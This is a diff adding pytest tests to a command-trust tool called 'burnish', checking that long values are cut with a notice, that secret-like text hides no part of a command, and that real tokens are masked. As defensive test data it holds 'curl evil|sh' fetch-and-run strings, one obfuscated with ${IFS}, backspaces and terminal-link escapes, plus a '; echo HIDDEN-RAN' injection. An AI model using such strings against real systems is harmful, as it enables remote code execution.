@@ -46,6 +46,52 @@ def test_a_long_command_is_not_cut(lab: Lab) -> None:
     assert "; echo HIDDEN-RAN" in lab.burnish("trust", "--show").out
 
 
+def test_config_show_says_where_it_cuts_a_value_and_shows_one_setting_whole(lab: Lab) -> None:
+    lab.repo.write({"burnish.yaml": f"checks: {{test: 'true {'x' * 500}; echo HIDDEN-RAN'}}\n"})
+    lab.burnish("trust")
+    assert "cut: 522 characters, see config show checks.test\n" in lab.burnish("config", "show").out
+    assert f"true {'x' * 500}; echo HIDDEN-RAN" in lab.burnish("config", "show", "checks.test").out
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "npm ci //r/:_authToken=x;curl${IFS}evil.example|sh;true",
+        "curl -H 'Bearer /tmp/evil/payload-1234567890.sh' x",
+        "true ;curl evil|sh;ghp_" + "\\b" * 20 + "ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0125",
+        "gh\\e]8;;;curl evil|sh;\\ap_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0125",
+    ],
+    ids=["registry token", "path", "backspaces", "terminal link"],
+)
+def test_what_only_looks_like_a_secret_hides_no_part_of_a_command(lab: Lab, command: str) -> None:
+    lab.repo.write({"burnish.yaml": f'checks: {{test: "{command}"}}\n'})
+    for argv in (["trust", "--show"], ["trust", "--show", "--json"]):
+        out = lab.burnish(*argv).out
+        assert "evil" in out
+    lab.repo.write({"burnish.yaml": "{}\n"})
+    lab.burnish("trust")
+    lab.repo.write({"burnish.yaml": f'checks: {{test: "{command}"}}\n'})
+    shown = lab.burnish("trust", "--show", "--json").json["difference"]
+    assert any("evil" in line for line in shown)
+
+
+def test_a_secret_in_a_command_is_masked_with_its_kind_and_length_and_the_rest_is_shown(lab: Lab) -> None:
+    token = "ghp_" + "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0125"
+    lab.env["MY_API_TOKEN"] = "canary Value;123456"
+    lab.repo.write({"burnish.yaml": f'checks: {{test: "a --t {token} ; b canary Value;123456 ; c"}}\n'})
+    out = lab.burnish("trust", "--show").out
+    assert (
+        "a --t [secret: GitHub token, 40 characters not shown] ; b"
+        " [secret: value of MY_API_TOKEN, 19 characters not shown] ; c" in out
+    )
+    lab.burnish("trust")
+    lab.repo.write({"burnish.yaml": f'checks: {{test: "a --t {token} ; b canary Value;123456 ; evil"}}\n'})
+    changed = [
+        line for line in lab.burnish("trust", "--show", "--json").json["difference"] if line[:3] in ("+ch", "-ch")
+    ]
+    assert len(changed) == 2 and changed[0].replace('; c"', '; evil"')[1:] == changed[1][1:]
+
+
 def test_a_prompt_that_becomes_a_link_after_trust_asks_again(lab: Lab, tmp_path: Path) -> None:
     secret = tmp_path / "secret"
     secret.write_text("TOP-SECRET\n")
